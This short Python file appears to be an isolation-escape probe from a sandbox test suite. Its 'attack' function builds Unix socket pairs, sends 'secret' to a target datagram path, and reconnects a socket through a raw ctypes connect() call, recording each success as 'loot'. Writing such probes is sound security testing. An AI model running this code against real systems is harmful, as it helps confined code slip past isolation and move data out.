"""Make a socket pair, which is harmless, and point it at a listener of the outside."""

import ctypes
import socket


def attack(target):
    loot = []
    for kind in [socket.SOCK_DGRAM, socket.SOCK_SEQPACKET, socket.SOCK_STREAM]:
        try:
            ours, _ = socket.socketpair(socket.AF_UNIX, kind)
            if kind == socket.SOCK_DGRAM:
                ours.sendto(b"secret", target["unix_datagram"])
                loot.append("datagram pair")
            path = b"\1\0" + target["unix_socket"].encode() + b"\0"
            if ctypes.CDLL(None).connect(ours.fileno(), path, len(path)) == 0:
                loot.append("reconnected")
        except OSError:
            pass
    return loot
